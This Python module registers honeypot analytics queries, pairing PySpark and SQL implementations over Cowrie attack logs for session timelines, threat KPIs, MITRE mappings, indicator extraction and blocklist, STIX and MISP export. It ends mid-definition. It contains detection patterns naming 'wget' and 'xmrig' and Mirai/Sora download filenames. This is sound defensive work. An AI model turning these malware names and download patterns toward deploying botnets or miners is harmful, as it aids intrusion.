"""Registered queries: sessions, search, fleet, periods, rules, indicators, campaigns."""

from __future__ import annotations

from datetime import datetime

from pyspark.sql import functions as F

from lureframe.functions import text
from lureframe.operators import campaigns as C
from lureframe.operators import fleet, indicators, ingest, periods, rules, search
from lureframe.operators import sessions as S
from lureframe.plans import adapter as A
from lureframe.plans import oracle as O
from lureframe.plans.oracle import sql, ts
from lureframe.plans.registry import query
from lureframe.sources import reference

AS_OF = datetime(2024, 1, 20)
AS_OF_SQL = "TIMESTAMP '2024-01-20 00:00:00'"
START, END = datetime(2024, 1, 1), datetime(2024, 1, 31)
START_SQL, END_SQL = "TIMESTAMP '2024-01-01 00:00:00'", "TIMESTAMP '2024-01-31 00:00:00'"

SESSIONS = """
ss AS (
  SELECT session_id, arg_min(source_ip, (ts, event_id)) AS attacker_ip, arg_min(source_port, (ts, event_id)) AS source_port,
    arg_min(destination_port, (ts, event_id)) FILTER (destination_port <> 0) AS destination_port,
    arg_min(honeypot_id, (ts, event_id)) AS honeypot_id, arg_min(honeypot_name, (ts, event_id)) AS honeypot_name,
    arg_min(protocol, (ts, event_id)) AS protocol, min(ts) AS started_at,
    CASE WHEN bool_or(action = 'cowrie.session.closed') THEN max(ts) END AS ended_at,
    (epoch_us(max(ts)) - epoch_us(min(ts))) // 1000000 AS duration_seconds,
    count(*) FILTER (action = 'cowrie.command.input') AS command_count,
    min(source_country) AS country,
    arg_min(username, (ts, event_id)) FILTER (username <> '') AS username
  FROM ev GROUP BY session_id)"""


@query("sessions", sql(f"SELECT * REPLACE ({ts('started_at')[:-14]} AS started_at, {ts('ended_at')[:-12]} AS ended_at) FROM ss", SESSIONS))
def _sessions(spark, d):
    return S.sessions(A.events(spark, d))


@query(
    "session_verdicts",
    sql(
        """SELECT s.session_id, coalesce(a.risk, 'informational') AS risk, coalesce(a.risk_score, 0) AS risk_score,
          coalesce(t.ids, '') AS mitre_technique_ids, coalesce(t.tactics, '') AS classification_chain,
          CASE WHEN a.risk IS NULL THEN 'not_analyzed' ELSE 'completed' END AS analysis_state
        FROM (SELECT DISTINCT session_id FROM ev) s
        LEFT JOIN (SELECT * FROM an QUALIFY row_number() OVER (PARTITION BY session_id ORDER BY created_at DESC, analysis_id DESC) = 1) a USING (session_id)
        LEFT JOIN (SELECT analysis_id, string_agg(technique_id, ',' ORDER BY p) AS ids,
            string_agg(tactic, ',' ORDER BY p) FILTER (first_tactic) AS tactics
          FROM (SELECT *, row_number() OVER (PARTITION BY analysis_id ORDER BY ts, mapping_id) AS p,
              row_number() OVER (PARTITION BY analysis_id, tactic ORDER BY ts, mapping_id) = 1 AS first_tactic FROM tm) GROUP BY 1) t USING (analysis_id)""",
        O.AN, O.CATALOG, O.CMD_TECH, O.TM,
    ),
)
def _verdicts(spark, d):
    ev = A.events(spark, d)
    an = A.analyses(ev)
    out = S.with_verdicts(ev.select("session_id").distinct(), an, A.mappings(ev, an))
    return out


@query(
    "session_sensors",
    sql("SELECT session_id, honeypot_id FROM (SELECT session_id, honeypot_id, count(*) n FROM ev GROUP BY ALL) "
        "QUALIFY row_number() OVER (PARTITION BY session_id ORDER BY n DESC, honeypot_id) = 1"),
)
def _session_sensors(spark, d):
    return S.session_sensors(A.events(spark, d))


@query(
    "timeline",
    sql(f"""SELECT session_id, event_id, {ts('ts')},
      CASE action WHEN 'cowrie.session.connect' THEN 'connection' WHEN 'cowrie.session.closed' THEN 'disconnect'
        WHEN 'cowrie.command.input' THEN 'command' WHEN 'cowrie.session.file_download' THEN 'download' ELSE 'auth' END AS kind,
      CASE action WHEN 'cowrie.session.connect' THEN 'Connection from ' || source_ip WHEN 'cowrie.session.closed' THEN 'Session closed'
        WHEN 'cowrie.command.input' THEN command_line WHEN 'cowrie.session.file_download' THEN 'Download ' || file_url
        WHEN 'cowrie.login.success' THEN 'Login succeeded' ELSE 'Login failed' END AS label,
      CASE WHEN action <> 'cowrie.command.input' THEN action END AS detail,
      coalesce(risk_level, 'informational') AS severity, mitre_technique_id AS technique_id FROM ev"""),
)
def _timeline(spark, d):
    return S.timeline(A.events(spark, d))


@query("compacted_commands", sql(f"SELECT session_id, event_id, {ts('ts')}, command, repeat_count, output_excerpt FROM outputs", O.RUNS, O.OUTPUTS))
def _compact(spark, d):
    return S.compact(A.with_outputs(A.events(spark, d)))


@query("session_downloads", sql(f"SELECT session_id, event_id, {ts('ts')}, file_url AS url, file_name AS outfile, sha256 AS shasum FROM ev WHERE action = 'cowrie.session.file_download'"))
def _downloads(spark, d):
    return S.downloads(A.events(spark, d))


@query(
    "compact_summaries",
    sql(f"""SELECT session_id, arg_min(source_ip, (ts, event_id)) AS attacker_ip, {ts('min(ts)', 'started_at')},
      (epoch_us(max(ts)) - epoch_us(min(ts))) // 1000000 AS duration_seconds,
      count(*) FILTER (action = 'cowrie.login.failed') AS failed_logins, bool_or(action = 'cowrie.login.success') AS successful_login,
      arg_min(username, (ts, event_id)) FILTER (username <> '') AS username,
      count(*) FILTER (action = 'cowrie.session.file_download') AS downloads, arg_min(event_id, (ts, event_id)) AS first_event_id
      FROM ev GROUP BY session_id"""),
)
def _summaries(spark, d):
    return S.compact_summary(A.events(spark, d))


@query(
    "search_events",
    sql(f"""SELECT event_id, {ts('ts')}, session_id, action, command_line, total FROM (
      SELECT *, count(*) OVER () AS total FROM ev WHERE protocol = 'ssh' AND ts >= {START_SQL} AND ts <= {AS_OF_SQL}
        AND (list_has_any(regexp_extract_all(lower(command_line), '[\\w.]*\\w'), ['wget', 'xmrig']) OR action = 'wget xmrig'))
      ORDER BY ts, event_id LIMIT 50 OFFSET 50"""),
)
def _search(spark, d):
    page = search.search(A.events(spark, d), {"protocol": "ssh"}, START, AS_OF, "wget xmrig", page=2, size=50)
    return page.select("event_id", "ts", "session_id", "action", "command_line", "total")


@query(
    "facets",
    sql("""SELECT facet, value, count FROM (SELECT facet, value, count(*) AS count FROM (
      UNPIVOT (SELECT protocol AS protocols, category AS categories, mitre_technique_id AS techniques, risk_level AS risks FROM ev WHERE honeypot_id <> 'hp-3')
      ON protocols, categories, techniques, risks INTO NAME facet VALUE value) GROUP BY ALL)
      QUALIFY row_number() OVER (PARTITION BY facet ORDER BY count DESC, value) <= 100"""),
)
def _facets(spark, d):
    return search.facets(A.events(spark, d), deny=["hp-3"])


@query(
    "scoped_sessions",
    sql(f"""SELECT session_id, attacker_ip, command_count, {ts('started_at')}, {ts('first_seen')} FROM (
      SELECT session_id, min(ts) AS first_seen FROM ev WHERE honeypot_id NOT IN ('hp-1') AND risk_level = 'high'
      GROUP BY 1 ORDER BY first_seen DESC, session_id LIMIT 100 OFFSET 20) JOIN ss USING (session_id)""", SESSIONS),
)
def _scoped(spark, d):
    page = search.session_page(A.events(spark, d), risk="high", deny=["hp-1"], limit=100, offset=20)
    return page.select("session_id", "attacker_ip", "command_count", "started_at", "first_seen")


@query(
    "analysis_history",
    sql(f"""SELECT analysis_id, session_id, {ts('created_at')}, risk FROM an JOIN (
      SELECT session_id, honeypot_id FROM (SELECT session_id, honeypot_id, count(*) n FROM ev GROUP BY ALL)
      QUALIFY row_number() OVER (PARTITION BY session_id ORDER BY n DESC, honeypot_id) = 1) USING (session_id)
      WHERE honeypot_id <> 'hp-2' ORDER BY created_at DESC, analysis_id LIMIT 100 OFFSET 10""".replace(ts("created_at"), "strftime(an.created_at, '%Y-%m-%d %H:%M:%S.%f') AS created_at").replace("ORDER BY created_at", "ORDER BY an.created_at"), O.AN),
)
def _history(spark, d):
    ev = A.events(spark, d)
    return search.load_history(A.analyses(ev), ev, deny=["hp-2"], limit=100, offset=10).select("analysis_id", "session_id", "created_at", "risk")


@query(
    "kpis_trend",
    sql(f"""SELECT id, value, previous, CASE WHEN previous = 0 THEN 0.0 ELSE round_even((value - previous) / previous::DOUBLE * 100, 1) END AS trend_pct,
      CASE WHEN previous = 0 OR value = previous THEN 'flat' WHEN round_even((value - previous) / previous::DOUBLE * 100, 1) > 0 THEN 'up'
        WHEN round_even((value - previous) / previous::DOUBLE * 100, 1) < 0 THEN 'down' ELSE 'flat' END AS direction FROM (
      SELECT id, max(v) FILTER (w = 'cur') AS value, max(v) FILTER (w = 'prev') AS previous FROM (
        UNPIVOT (SELECT CASE WHEN ts >= {AS_OF_SQL} - INTERVAL 7 DAY THEN 'cur' ELSE 'prev' END AS w, count(*) AS total_events,
          count(DISTINCT session_id) AS active_sessions, count(*) FILTER (risk_level IN ('high', 'critical')) AS high_risk,
          count(DISTINCT mitre_technique_id) AS techniques
        FROM ev WHERE ts BETWEEN {AS_OF_SQL} - INTERVAL 14 DAY AND {AS_OF_SQL} GROUP BY 1)
        ON total_events, active_sessions, high_risk, techniques INTO NAME id VALUE v) GROUP BY id)"""),
)
def _kpis(spark, d):
    return fleet.kpis(A.events(spark, d), AS_OF, "7d")


@query(
    "activity",
    sql(f"""SELECT {ts('b.bucket', 'bucket')}, coalesce(e.events, 0) AS events, coalesce(e.high_risk, 0) AS high_risk FROM (
      SELECT unnest(generate_series({AS_OF_SQL} - INTERVAL 7 DAY, {AS_OF_SQL}, INTERVAL 12 HOUR)) AS bucket) b
      LEFT JOIN (SELECT time_bucket(INTERVAL 12 HOUR, ts, TIMESTAMP '1970-01-01') AS bucket, count(*) AS events,
        count(*) FILTER (risk_level IN ('high', 'critical')) AS high_risk FROM ev
        WHERE ts BETWEEN {AS_OF_SQL} - INTERVAL 7 DAY AND {AS_OF_SQL} GROUP BY 1) e ON b.bucket = e.bucket"""),
)
def _activity(spark, d):
    return fleet.activity(A.events(spark, d), AS_OF, "7d")


@query(
    "risk_levels",
    sql(f"""SELECT l.position, l.level, count(e.event_id) AS n FROM (VALUES (0,'critical'),(1,'high'),(2,'medium'),(3,'low'),(4,'informational')) l(position, level)
      LEFT JOIN (SELECT * FROM ev WHERE ts BETWEEN {AS_OF_SQL} - INTERVAL 1 DAY AND {AS_OF_SQL}) e ON e.risk_level = l.level GROUP BY ALL"""
        .replace("l.position,", "CAST(l.position AS BIGINT) AS position,")),
)
def _risk_levels(spark, d):
    return fleet.risk_levels(A.events(spark, d), AS_OF, "24h")


@query(
    "classifications",
    sql(f"""SELECT CASE WHEN r > 6 THEN 'Other' ELSE label END AS label, CAST(sum(n) AS BIGINT) AS n FROM (
      SELECT ai_classification AS label, count(*) AS n, row_number() OVER (ORDER BY count(*) DESC, ai_classification) AS r FROM ev
      WHERE ai_classification IS NOT NULL AND ts BETWEEN {AS_OF_SQL} - INTERVAL 7 DAY AND {AS_OF_SQL} GROUP BY 1) WHERE r <= 10 GROUP BY 1"""),
)
def _classifications(spark, d):
    return fleet.classifications(A.events(spark, d), AS_OF, "7d")


@query(
    "top_attackers",
    sql(f"""SELECT t.ip, coalesce(c.country, 'Unknown') AS country, t.events, t.sessions, {ts('t.last_seen', 'last_seen')}, r.risk FROM (
        SELECT source_ip AS ip, count(*) AS events, count(DISTINCT session_id) AS sessions, max(ts) AS last_seen FROM win GROUP BY 1
        ORDER BY events DESC, ip LIMIT 10) t
      LEFT JOIN (SELECT source_ip AS ip, source_country AS country FROM win WHERE source_country IS NOT NULL GROUP BY source_ip, source_country
        QUALIFY row_number() OVER (PARTITION BY source_ip ORDER BY count(*) DESC, source_country) = 1) c USING (ip)
      LEFT JOIN (SELECT source_ip AS ip, arg_max(risk, (risk_score, risk)) AS risk FROM (SELECT DISTINCT source_ip, session_id FROM ev)
        JOIN an USING (session_id) GROUP BY 1) r USING (ip)""",
        O.AN, f"win AS (SELECT * FROM ev WHERE ts BETWEEN {AS_OF_SQL} - INTERVAL 7 DAY AND {AS_OF_SQL})"),
)
def _attackers(spark, d):
    ev = A.events(spark, d)
    return fleet.top_attackers(ev, A.analyses(ev), AS_OF, "7d")


@query(
    "assessed_risk",
    sql("""SELECT source_ip, arg_max(risk, (risk_score, risk)) AS risk FROM (SELECT DISTINCT source_ip, session_id FROM ev)
      JOIN an USING (session_id) GROUP BY 1""", O.AN),
)
def _assessed(spark, d):
    ev = A.events(spark, d)
    return fleet.assessed_risk(ev, A.analyses(ev))


@query(
    "top_commands",
    sql(f"""SELECT t.command, t.n, m.technique_id FROM (SELECT command_line AS command, count(*) AS n FROM win WHERE command_line IS NOT NULL
        AND length(command_line) <= 1024 GROUP BY 1 ORDER BY n DESC, command LIMIT 10) t
      LEFT JOIN (SELECT command_line AS command, mitre_technique_id AS technique_id FROM win WHERE mitre_technique_id IS NOT NULL GROUP BY command_line, mitre_technique_id
        QUALIFY row_number() OVER (PARTITION BY command_line ORDER BY count(*) DESC, mitre_technique_id) = 1) m USING (command)""",
        f"win AS (SELECT * FROM ev WHERE ts BETWEEN {AS_OF_SQL} - INTERVAL 7 DAY AND {AS_OF_SQL})"),
)
def _commands(spark, d):
    return fleet.top_commands(A.events(spark, d), AS_OF, "7d")


TYPE_SQL = """(SELECT honeypot_id, string_agg(CASE protocol WHEN 'ssh' THEN 'SSH' WHEN 'telnet' THEN 'Telnet' ELSE upper(protocol) END, ', ' ORDER BY n DESC, protocol) AS type,
  string_agg(protocol || '=' || n, ',' ORDER BY protocol) AS protocols FROM (SELECT honeypot_id, protocol, count(*) AS n FROM ev GROUP BY ALL) GROUP BY 1)"""


@query(
    "sensors",
    sql(f"""SELECT e.honeypot_id, name, ip, type, CASE WHEN {END_SQL} - last > INTERVAL 24 HOUR THEN 'degraded' ELSE 'online' END AS status,
      sessions, events, {ts('last', 'last_activity')} FROM (SELECT honeypot_id, min(honeypot_name) AS name, min(destination_ip) AS ip,
      count(DISTINCT session_id) AS sessions, count(*) AS events, max(ts) AS last FROM ev GROUP BY 1) e JOIN {TYPE_SQL} t USING (honeypot_id)"""),
)
def _sensors(spark, d):
    return fleet.sensors(A.events(spark, d), END)


@query(
    "sensor_profiles",
    sql(f"""SELECT e.honeypot_id, name, address, type, protocols, {ts('a', 'first_seen')}, {ts('b', 'last_seen')} FROM (
      SELECT honeypot_id, min(honeypot_name) AS name, min(destination_ip) AS address, min(ts) AS a, max(ts) AS b FROM ev GROUP BY 1) e
      JOIN {TYPE_SQL} t USING (honeypot_id)"""),
)
def _profiles(spark, d):
    return periods.sensor_profile(A.events(spark, d))


# --- periods ---
PERIODS = f"""
span AS (SELECT honeypot_id, greatest(min(ts), {START_SQL}) AS s, {END_SQL} AS e FROM ev GROUP BY 1),
cut AS (
  SELECT honeypot_id, cut_at, string_agg(label, ',' ORDER BY src, ord) AS opened_by, arg_max(persona, ord) FILTER (src = 0) AS persona FROM (
    SELECT honeypot_id, deployed_at AS cut_at, 0 AS src, deployment_id AS ord, 'persona:' || persona AS label, persona FROM dp JOIN span USING (honeypot_id) WHERE deployed_at > s AND deployed_at < e
    UNION ALL SELECT honeypot_id, changed_at, 1, change_id, kind, NULL FROM ch JOIN span USING (honeypot_id) WHERE changed_at > s AND changed_at < e) GROUP BY 1, 2),
opening AS (
  SELECT span.honeypot_id, s AS cut_at, '' AS opened_by, coalesce(
    (SELECT arg_max(persona, (deployed_at, deployment_id)) FROM dp WHERE dp.honeypot_id = span.honeypot_id AND deployed_at <= s),
    CASE WHEN EXISTS (SELECT 1 FROM dp WHERE dp.honeypot_id = span.honeypot_id AND deployed_at > s) THEN 'pre-persona' END) AS persona FROM span),
per AS (
  SELECT b.honeypot_id, cut_at AS p_start, coalesce(lead(cut_at) OVER w, span.e) AS p_end,
    last_value(persona IGNORE NULLS) OVER (PARTITION BY b.honeypot_id ORDER BY cut_at ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS persona, opened_by
  FROM (SELECT honeypot_id, cut_at, opened_by, persona FROM opening UNION ALL SELECT honeypot_id, cut_at, opened_by, persona FROM cut) b JOIN span USING (honeypot_id)
  WINDOW w AS (PARTITION BY b.honeypot_id ORDER BY cut_at))"""


def _spans(spark, ev):
    return periods.periods(A.deployments(spark), A.changes(spark), periods.windows_from_first_event(ev, START, END))


@query("periods", sql(f"SELECT honeypot_id, {ts('p_start', 'start')}, {ts('p_end', 'end')}, persona, opened_by FROM per".replace("AS end", 'AS "end"').replace("AS start", 'AS "start"'), O.DP, O.CH, PERIODS))
def _periods(spark, d):
    return _spans(spark, A.events(spark, d))


@query(
    "persona_asof",
    sql(f"""SELECT e.event_id, e.honeypot_id, {ts('e.ts', 't')}, x.persona, {ts('x.deployed_at', 'deployed_at')} FROM ev e LEFT JOIN (
      SELECT e2.event_id, arg_max(persona, (dp.deployed_at, deployment_id)) AS persona, max(dp.deployed_at) AS deployed_at
      FROM ev e2 JOIN dp ON dp.honeypot_id = e2.honeypot_id AND dp.deployed_at <= e2.ts GROUP BY 1) x USING (event_id)""", O.DP),
)
def _asof(spark, d):
    points = A.events(spark, d).select("event_id", "honeypot_id", F.col("ts").alias("t"))
    return periods.active_deployment(points, A.deployments(spark))


@query(
    "traffic_days",
    sql(f"""SELECT h.honeypot_id, {ts('g.day', 'day')}, coalesce(events, 0) AS events, coalesce(sessions, 0) AS sessions, coalesce(sources, 0) AS sources
      FROM (SELECT DISTINCT honeypot_id FROM ev) h CROSS JOIN (SELECT unnest(generate_series({START_SQL}, {END_SQL}, INTERVAL 1 DAY)) AS day) g
      LEFT JOIN (SELECT honeypot_id, date_trunc('day', ts)::TIMESTAMP AS day, count(*) AS events, count(DISTINCT session_id) AS sessions,
        count(DISTINCT source_ip) AS sources FROM ev WHERE ts BETWEEN {START_SQL} AND {END_SQL} GROUP BY 1, 2) c ON c.honeypot_id = h.honeypot_id AND c.day = g.day"""),
)
def _days(spark, d):
    return periods.traffic_by_day(A.events(spark, d), START, END)


@query(
    "sensor_top_sources",
    sql(f"""SELECT t.honeypot_id, t.rank, t.ip, c.country, t.events FROM (SELECT honeypot_id, source_ip AS ip, count(*) AS events,
        row_number() OVER (PARTITION BY honeypot_id ORDER BY count(*) DESC, source_ip) AS rank FROM ev GROUP BY 1, 2 QUALIFY rank <= 10) t
      LEFT JOIN (SELECT honeypot_id, source_ip AS ip, source_country AS country FROM ev WHERE source_country IS NOT NULL GROUP BY honeypot_id, source_ip, source_country
        QUALIFY row_number() OVER (PARTITION BY honeypot_id, source_ip ORDER BY count(*) DESC, source_country) = 1) c USING (honeypot_id, ip)"""),
)
def _sources(spark, d):
    return periods.top_sources(A.events(spark, d), START, END)


@query(
    "protocol_split",
    sql("""SELECT honeypot_id, string_agg(protocol || '=' || n, ',' ORDER BY protocol) AS protocols FROM (
      SELECT honeypot_id, protocol, count(*) AS n FROM ev GROUP BY ALL) GROUP BY 1"""),
)
def _protocol_split(spark, d):
    return periods.protocol_split(A.events(spark, d), START, END)


@query(
    "traffic_periods",
    sql(f"""SELECT honeypot_id, {ts('p_start', '"start"')}, {ts('p_end', '"end"')}, persona, events, sessions, sources,
      round(events / days, 6) AS events_per_day, round(sessions / days, 6) AS sessions_per_day, round(sources / days, 6) AS sources_per_day FROM (
      SELECT p.honeypot_id, p_start, p_end, persona, count(e.event_id) AS events, count(DISTINCT e.session_id) AS sessions,
        count(DISTINCT e.source_ip) AS sources, greatest((epoch_us(p_end) - epoch_us(p_start)) / 86400000000.0, 1 / 24.0) AS days
      FROM per p LEFT JOIN ev e ON e.honeypot_id = p.honeypot_id AND e.ts >= p_start AND e.ts < p_end GROUP BY 1, 2, 3, 4)""", O.DP, O.CH, PERIODS),
)
def _traffic(spark, d):
    ev = A.events(spark, d)
    return periods.traffic_by_period(ev, _spans(spark, ev).drop("opened_by"))


@query(
    "sensor_techniques",
    sql(f"""SELECT x.honeypot_id, x.technique_id, c.name, c.tactic, x.events, x.sessions, {ts('a', 'first_seen')}, {ts('b', 'last_seen')}, p.per_period FROM (
        SELECT honeypot_id, technique_id, count(*) AS events, count(DISTINCT session_id) AS sessions, min(ts) AS a, max(ts) AS b
        FROM ev JOIN cmd_tech USING (command_line) GROUP BY 1, 2) x
      JOIN catalog c USING (technique_id)
      JOIN (SELECT honeypot_id, technique_id, string_agg(n, ',' ORDER BY p_start) AS per_period FROM (
        SELECT g.honeypot_id, g.technique_id, g.p_start, CAST(count(e.event_id) AS VARCHAR) AS n FROM (
          SELECT DISTINCT h.honeypot_id, h.technique_id, per.p_start, per.p_end FROM (SELECT DISTINCT honeypot_id, technique_id FROM ev JOIN cmd_tech USING (command_line)) h JOIN per USING (honeypot_id)) g
        LEFT JOIN (SELECT ev.event_id, honeypot_id, ts, technique_id FROM ev JOIN cmd_tech USING (command_line)) e
          ON e.honeypot_id = g.honeypot_id AND e.technique_id = g.technique_id AND e.ts >= g.p_start AND e.ts < g.p_end GROUP BY 1, 2, 3) GROUP BY 1, 2) p
      ON p.honeypot_id = x.honeypot_id AND p.technique_id = x.technique_id""", O.DP, O.CH, PERIODS, O.CATALOG, O.CMD_TECH),
)
def _sensor_techniques(spark, d):
    ev = A.events(spark, d)
    return periods.sensor_techniques(ev, _spans(spark, ev), reference.rules(spark), START, END)


# --- rules ---
@query("normalized", sql(f"SELECT event_id, {O.NORM.format(c='command_line')} AS normalized FROM ev WHERE command_line IS NOT NULL"))
def _normalized(spark, d):
    rows = A.events(spark, d).filter("command_line IS NOT NULL")
    return rows.select("event_id", text.normalize_command("command_line").alias("normalized"))


@query("rule_hits", sql("SELECT session_id, event_id, command_line, technique_id FROM ev JOIN cmd_tech USING (command_line)", O.CMD_TECH))
def _hits(spark, d):
    return rules.rule_hits(A.events(spark, d).select("session_id", "event_id", "command_line")).select("session_id", "event_id", "command_line", "technique_id")


@query("unmatched_commands", sql("SELECT event_id, command_line FROM ev WHERE command_line IS NOT NULL AND command_line NOT IN (SELECT command_line FROM cmd_tech)", O.CMD_TECH))
def _unmatched(spark, d):
    return rules.unmatched(A.events(spark, d).select("event_id", "command_line")).select("event_id", "command_line")


@query(
    "technique_mappings",
    sql("""SELECT session_id, technique_id, count(*) AS evidence_count, arg_min(event_id, (ts, event_id)) AS first_event_id,
      arg_max(event_id, (ts, event_id)) AS last_event_id, 1.0::DOUBLE AS confidence, 'rule' AS source, true AS observed
      FROM ev JOIN cmd_tech USING (command_line) GROUP BY 1, 2""", O.CMD_TECH),
)
def _mappings(spark, d):
    return rules.technique_mappings(rules.rule_hits(A.events(spark, d).select("session_id", "event_id", "ts", "command_line")))


@query(
    "url_arch",
    sql("""SELECT event_id, file_url, CASE regexp_extract(file_url, '[^/]*$') WHEN 'mirai.arm7' THEN 'arm' WHEN 'x86_64' THEN 'x86' WHEN 'sora.mpsl' THEN 'mips'
      WHEN 'i686' THEN 'x86' WHEN 'aarch64?x=1' THEN 'arm' ELSE 'none' END AS arch FROM ev WHERE file_url IS NOT NULL"""),
)
def _arch(spark, d):
    return A.events(spark, d).filter("file_url IS NOT NULL").select("event_id", "file_url", text.url_arch("file_url").alias("arch"))


# --- indicators ---
EXTRACTED = f"""
ind_rows AS (
  SELECT session_id, event_id, 'command' AS type, command AS value, command AS artifact FROM comp
  UNION ALL SELECT session_id, event_id, 'url', unnest(regexp_extract_all(command, 'https?://[^\\s''"|;)]+')), command FROM comp
  UNION ALL SELECT session_id, event_id, 'ip', unnest(regexp_extract_all(command, '\\b(?:[0-9]{{1,3}}\\.){{3}}[0-9]{{1,3}}\\b')), command FROM comp
  UNION ALL SELECT session_id, event_id, 'hash', sha256, 'download: ' || file_name FROM ev WHERE sha256 IS NOT NULL
  UNION ALL SELECT session_id, event_id, 'url', file_url, 'download: ' || file_name FROM ev WHERE file_url IS NOT NULL
  UNION ALL SELECT session_id, event_id, 'filename', file_name, 'download: ' || file_name FROM ev WHERE file_name IS NOT NULL
  UNION ALL SELECT session_id, arg_min(event_id, (ts, event_id)), 'ip', min(source_ip), 'connection from ' || min(source_ip) FROM ev GROUP BY 1
  UNION ALL SELECT session_id, arg_min(event_id, (ts, event_id)), 'username', arg_min(username, (ts, event_id)) FILTER (username <> ''),
    'connection from ' || min(source_ip) FROM ev GROUP BY 1 HAVING count(username) > 0),
ind_links AS (SELECT type, value, session_id, min(seen) AS first_seen, max(seen) AS last_seen FROM ind_rows
  JOIN (SELECT session_id, max(ts) AS seen FROM ev GROUP BY 1) USING (session_id) GROUP BY 1, 2, 3),
ind AS (SELECT type, value, min(first_seen) AS first_seen, max(last_seen) AS last_seen, count(*) AS session_count,
  CASE WHEN count(*) > 1 THEN 'CORRELATED' ELSE 'OBSERVED' END AS source FROM ind_links GROUP BY 1, 2)"""
PUBLIC = "NOT (value LIKE '10.%' OR value LIKE '198.51.100.%' OR value LIKE '203.0.113.%')"


def _links(ev):
    seen = ev.groupBy("session_id").agg(F.max("ts").alias("seen_at"))
    return indicators.session_links(indicators.extract(ev).join(seen, "session_id"))


def _ind(ev):
    return indicators.correlate(_links(ev))


@query("indicator_citations", sql("SELECT * FROM ind_rows", O.RUNS, EXTRACTED))
def _extract(spark, d):
    return indicators.extract(A.events(spark, d))


@query("indicators", sql(f"SELECT type, value, {ts('first_seen')}, {ts('last_seen')}, session_count, source FROM ind", O.RUNS, EXTRACTED))
def _indicators(spark, d):
    return _ind(A.events(spark, d))


@query("indicator_links", sql(f"SELECT type, value, session_id, {ts('first_seen')}, {ts('last_seen')} FROM ind_links", O.RUNS, EXTRACTED))
def _indicator_links(spark, d):
    return _links(A.events(spark, d))


@query(
    "list_indicators",
    sql(f"""SELECT type, value, {ts('i.last_seen', 'last_seen')}, session_count FROM ind i WHERE type = 'url' AND lower(value) LIKE '%bins/%'
      ORDER BY i.last_seen DESC, type, value LIMIT 50 OFFSET 5""", O.RUNS, EXTRACTED),
)
def _list_ind(spark, d):
    return search.list_indicators(_ind(A.events(spark, d)), "url", "BINS/", 50, 5).select("type", "value", "last_seen", "session_count")


@query("indicator_counts", sql("SELECT type, count(*) AS n FROM ind GROUP BY 1", O.RUNS, EXTRACTED))
def _ind_counts(spark, d):
    return fleet.indicator_counts(_ind(A.events(spark, d)))


@query(
    "document_indicators",
    """WITH t AS (SELECT 'doc-' || doc_id AS source_id, text AS body FROM documents UNION ALL SELECT 'page-' || page_id, url || chr(10) || html FROM pages),
      r AS (SELECT source_id, 'url' AS type, unnest(regexp_extract_all(body, 'https?://[^\\s''"|;)]+')) AS value FROM t
        UNION ALL SELECT source_id, 'ip', unnest(regexp_extract_all(body, '\\b(?:[0-9]{1,3}\\.){3}[0-9]{1,3}\\b')) FROM t
        UNION ALL SELECT source_id, 'hash', unnest(regexp_extract_all(body, '\\b[a-fA-F0-9]{64}\\b')) FROM t)
      SELECT type, value, count(DISTINCT source_id) AS session_count, CASE WHEN count(DISTINCT source_id) > 1 THEN 'CORRELATED' ELSE 'OBSERVED' END AS source
      FROM r GROUP BY 1, 2""",
)
def _doc_indicators(spark, d):
    docs = A.table(spark, d, "documents").select(F.concat(F.lit("doc-"), F.col("doc_id").cast("string")).alias("session_id"), F.col("text").alias("body"))
    pages = A.table(spark, d, "pages").select(
        F.concat(F.lit("page-"), F.col("page_id").cast("string")).alias("session_id"), F.concat_ws("\n", "url", "html").alias("body")
    )
    rows = indicators.text_indicators(docs.unionByName(pages), "body").withColumn("seen_at", F.lit("2024-01-01").cast("timestamp"))
    return indicators.correlate(indicators.session_links(rows)).select("type", "value", "session_count", "source")


@query(
    "ioc_exclusions",
    sql(f"""SELECT CASE WHEN type NOT IN ('ip', 'url', 'hash') THEN 'type:' || type ELSE 'non-public-ip' END AS reason, count(*) AS n
      FROM ind WHERE type NOT IN ('ip', 'url', 'hash') OR (type = 'ip' AND NOT ({PUBLIC})) GROUP BY 1""", O.RUNS, EXTRACTED),
)
def _exclusions(spark, d):
    return indicators.exclusions(indicators.export_split(_ind(A.events(spark, d))))


@query(
    "blocklist",
    sql(f"SELECT DISTINCT value AS line FROM ind WHERE type = 'ip' AND {PUBLIC}", O.RUNS, EXTRACTED),
)
def _blocklist(spark, d):
    return indicators.blocklist(indicators.export_split(_ind(A.events(spark, d))))


@query(
    "stix",
    sql(f"""SELECT 'indicator--' || substr(h, 1, 8) || '-' || substr(h, 9, 4) || '-5' || substr(h, 14, 3) || '-' ||
        ['8','9','a','b'][instr('0123456789abcdef', substr(h, 17, 1)) % 4 + CASE WHEN instr('0123456789abcdef', substr(h, 17, 1)) % 4 = 0 THEN 4 ELSE 0 END] || substr(h, 18, 3) || '-' || substr(h, 21, 12) AS id,
      CASE type WHEN 'ip' THEN '[ipv4-addr:value = ''' || value || ''']' WHEN 'url' THEN '[url:value = ''' || value || ''']'
        ELSE '[file:hashes.''SHA-256'' = ''' || value || ''']' END AS pattern,
      strftime(first_seen, '%Y-%m-%dT%H:%M:%S.') || lpad(CAST((epoch_us(first_seen) // 1000) % 1000 AS VARCHAR), 3, '0') || 'Z' AS created,
      source || ' by the decoy sensors in ' || session_count || CASE WHEN session_count = 1 THEN ' session.' ELSE ' sessions.' END AS description
      FROM (SELECT *, sha1(unhex('6f1b8c3e2d4a5e9f8a7b1c2d3e4f5a6b') || encode(type || ':' || value)) AS h FROM ind
        WHERE type IN ('url', 'hash') OR (type = 'ip' AND {PUBLIC}))""", O.RUNS, EXTRACTED),
)
def _stix(spark, d):
    objects = indicators.stix_objects(indicators.export_split(_ind(A.events(spark, d))))
    read = lambda p: F.get_json_object("json", f"$.{p}").alias(p)
    return objects.select("id", read("pattern"), read("created"), read("description"))


@query(
    "misp",
    sql(f"""SELECT type, value, CASE type WHEN 'ip' THEN 'ip-src' WHEN 'url' THEN 'url' ELSE 'sha256' END AS kind,
      CASE type WHEN 'hash' THEN 'Payload delivery' ELSE 'Network activity' END AS category FROM ind
      WHERE type IN ('url', 'hash') OR (type = 'ip' AND {PUBLIC})""", O.RUNS, EXTRACTED),
)
def _misp(spark, d):
    rows = indicators.misp_attributes(indicators.export_split(_ind(A.events(spark, d))))
    return rows.select("type", "value", F.get_json_object("json", "$.type").alias("kind"), F.get_json_object("json", "$.category").alias("category"))


# --- campaigns ---
@query(
    "campaigns",
